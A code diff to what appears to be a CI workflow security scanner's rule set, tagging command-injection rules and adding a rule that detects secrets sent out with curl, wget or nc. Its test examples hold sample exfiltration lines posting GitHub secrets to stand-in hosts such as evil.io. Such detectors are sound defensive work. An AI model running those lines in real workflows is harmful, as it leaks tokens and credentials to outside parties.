@@ -1,5 +1,5 @@
 import type { Pattern } from '../../model/rules.ts';
-import { ACTIONS, WORKFLOWS } from './paths.ts';
+import { ACTIONS, DOCUMENT_TAG, WORKFLOWS } from './paths.ts';
 
 const raw = String.raw;
 
@@ -125,6 +125,7 @@ on: [push, pull_request_target]`,
     target: 'hunk',
     path: ACTIONS,
     keywords: ['github'],
+    tags: [DOCUMENT_TAG],
     severity: 'high',
     message: 'Anybody who writes this title or text can run commands in the workflow.',
     fix: 'Put the expression into env: and use "$NAME" in the script.',
@@ -157,6 +158,7 @@ on: [push, pull_request_target]`,
     target: 'hunk',
     path: ACTIONS,
     keywords: ['head_ref', 'head', 'head_branch'],
+    tags: [DOCUMENT_TAG],
     severity: 'medium',
     message: 'A branch may be named so that its name is a command; this runs it.',
     fix: 'Put the expression into env: and use "$NAME" in the script.',
@@ -272,6 +274,7 @@ on: [push, pull_request_target]`,
     regex: raw`\beval\b[^\n]*\$\{?${GITLAB_TEXT}|\b(?:(?:ba|da|z|k)?sh|python[\d.]*|node|perl|ruby)\s+-[ce]\s+\\?"[^\n]*\$\{?${GITLAB_TEXT}|\bssh\b[^\n]*\\?"[^\n]*\$\{?${GITLAB_TEXT}`,
     path: raw`(?i)(?:^|/)[^/]*gitlab-ci[^/]*\.ya?ml$|^\.gitlab/.*\.ya?ml$`,
     keywords: ['ci_merge_request_', 'ci_commit_', 'ci_external_pull_request_'],
+    tags: [DOCUMENT_TAG],
     severity: 'high',
     message: 'Anybody who writes a title, a message or the name of a branch can run commands.',
     fix: 'Hand it over as an argument: sh -c \'notify "$1"\' -- "$CI_COMMIT_TITLE".',
@@ -336,6 +339,38 @@ on: [push, pull_request_target]`,
         `          echo "\${{ secrets.KEY }}" > key.json`,
         `          echo "\${{ secrets.KEY }}" | docker login --password-stdin`,
         `          TOKEN: \${{ secrets.TOKEN }}`,
+      ],
+    },
+  },
+  {
+    id: 'risk-workflow-secret-sent',
+    description: 'A secret is sent to a host that it is hardly for',
+    regex: raw`(?i)\b(?:curl|wget|nc|ncat)\b[^\n]*(?:\s(?:-d|-F|-T|--data(?:-\w+)?|--form|--post-data)[ =]*["']?(?:\w+=)?|\?\w+=|/)\$\{\{\s*(?:secrets\s*[.\[]|toJSON\(\s*secrets)|\$\{\{\s*(?:secrets\s*[.\[]|toJSON\(\s*secrets)[^\n]*\|[^\n]*\b(?:curl|wget|nc|ncat)\b`,
+    path: ACTIONS,
+    keywords: ['secrets'],
+    allowlists: [
+      {
+        description: 'hosts at which a client shows who it is; the host of the repository',
+        regexTarget: 'line',
+        regexes: [
+          raw`https://(?:login|auth|oauth2?|accounts?|sso|api|hooks?|webhooks?)\.|https://(?:[\w-]+\.)?github\.com/`,
+        ],
+      },
+    ],
+    severity: 'high',
+    message: 'The secret leaves for a host that nothing says it is for; the log does not show it.',
+    fix: 'Remove it, and replace the secret if this has run. Authenticate with a header over https.',
+    cwe: 'CWE-200',
+    source: 'https://attack.mitre.org/techniques/T1567/',
+    examples: {
+      path: '.github/workflows/ci.yml',
+      match: [
+        `      - run: curl -d "t=\${{ secrets.NPM_TOKEN }}" https://collect.evil.io/x`,
+        `        run: echo "\${{ secrets.KEY }}" | base64 | curl --data-binary @- https://evil.io`,
+      ],
+      noMatch: [
+        `      - run: curl -H "Authorization: Bearer \${{ secrets.TOKEN }}" https://api.acme.io/x`,
+        `      - run: curl -X POST -d '{"text":"done"}' "\${{ secrets.SLACK_WEBHOOK_URL }}"`,
       ],
     },
   },
